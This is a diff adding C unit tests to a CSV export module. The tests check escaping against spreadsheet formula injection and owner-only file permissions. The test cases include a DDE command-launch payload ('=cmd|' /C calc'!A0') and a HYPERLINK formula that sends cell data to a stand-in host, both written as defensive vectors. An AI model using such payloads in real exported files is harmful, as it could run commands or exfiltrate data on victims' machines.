@@ -4,6 +4,7 @@
 
 #include <glib/gstdio.h>
 #include <string.h>
+#include <sys/stat.h>
 
 #include "core/saoma-export.h"
 #include "ledger/saoma-ledger.h"
@@ -344,6 +345,98 @@ test_async_to_file (Fixture       *f,
   }
 }
 
+/* OWASP's CSV injection rule, and long digit strings kept as text. */
+static void
+test_formula_injection (void)
+{
+  static const struct
+  {
+    const char *value;
+    const char *csv;
+  } cases[] = {
+    { "=1+2", "'=1+2" },
+    { "+1", "'+1" },
+    { "-1+2", "'-1+2" },
+    { "@SUM(A1:A9)", "'@SUM(A1:A9)" },
+    { "\t=1", "'\t=1" },
+    { "\r=1", "\"'\r=1\"" },
+    { "=HYPERLINK(\"http://x.example/?\"&A1,\"查看\")",
+      "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"查看\"\")\"" },
+    { "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0" },
+    { "-", "'-" },
+    { "-.5", "'-.5" },
+    { "-12.50", "-12.50" },
+    { "12.50", "12.50" },
+    { "a=b", "a=b" },
+    { "拿铁 -1", "拿铁 -1" },
+    { "", "" },
+    { "123456789012345", "123456789012345" },
+    { "1234567890123456", "'1234567890123456" },
+    { "4200000483202001042069747825", "'4200000483202001042069747825" },
+    { "50300103182020010413419046597", "'50300103182020010413419046597" },
+    { "T01-4200000483202001042069747825", "T01-4200000483202001042069747825" },
+  };
+
+  for (guint i = 0; i < G_N_ELEMENTS (cases); i++)
+    {
+      g_autoptr(GString) buf = g_string_new (NULL);
+
+      saoma_export_append_csv_field (buf, cases[i].value);
+      g_assert_cmpstr (buf->str, ==, cases[i].csv);
+    }
+}
+
+static guint
+file_mode (const char *path)
+{
+  GStatBuf st;
+
+  g_assert_cmpint (g_stat (path, &st), ==, 0);
+
+  return st.st_mode & 0777;
+}
+
+/* Exports are the owner's only, new or replacing a world-readable file, whatever the umask. */
+static void
+test_file_mode (void)
+{
+  g_autoptr(GError) error = NULL;
+  g_autofree char *dir = g_dir_make_tmp ("saoma-export-mode-XXXXXX", &error);
+  g_autofree char *stream_path = g_build_filename (dir, "stream.csv", NULL);
+  g_autofree char *file_path = g_build_filename (dir, "file.csv", NULL);
+  g_autoptr(GFile) file = g_file_new_for_path (stream_path);
+  mode_t old_umask = umask (022);
+
+  g_assert_no_error (error);
+  for (guint round = 0; round < 2; round++)
+    {
+      g_autoptr(GFileOutputStream) out = saoma_export_create_file (file, NULL, &error);
+      g_autofree char *back = NULL;
+
+      g_assert_no_error (error);
+      g_assert_true (g_output_stream_write_all (G_OUTPUT_STREAM (out), "a,b\r\n", 5, NULL, NULL,
+                                                &error));
+      g_assert_true (g_output_stream_close (G_OUTPUT_STREAM (out), NULL, &error));
+      g_assert_no_error (error);
+      g_assert_cmpuint (file_mode (stream_path), ==, 0600);
+      g_assert_true (g_file_get_contents (stream_path, &back, NULL, NULL));
+      g_assert_cmpstr (back, ==, "a,b\r\n");
+
+      g_assert_true (saoma_export_write_file (file_path, "c,d\r\n", -1, &error));
+      g_assert_no_error (error);
+      g_assert_cmpuint (file_mode (file_path), ==, 0600);
+
+      /* The second round replaces files someone made world-readable. */
+      g_assert_cmpint (g_chmod (stream_path, 0644), ==, 0);
+      g_assert_cmpint (g_chmod (file_path, 0644), ==, 0);
+    }
+
+  umask (old_umask);
+  g_unlink (stream_path);
+  g_unlink (file_path);
+  g_rmdir (dir);
+}
+
 int
 main (int   argc,
       char *argv[])
@@ -356,6 +449,8 @@ main (int   argc,
   ADD ("/export/async-to-file", test_async_to_file);
   g_test_add_func ("/export/day-range", test_day_range);
   g_test_add_func ("/export/parse-date", test_parse_date);
+  g_test_add_func ("/export/formula-injection", test_formula_injection);
+  g_test_add_func ("/export/file-mode", test_file_mode);
 #undef ADD
 
   return g_test_run ();
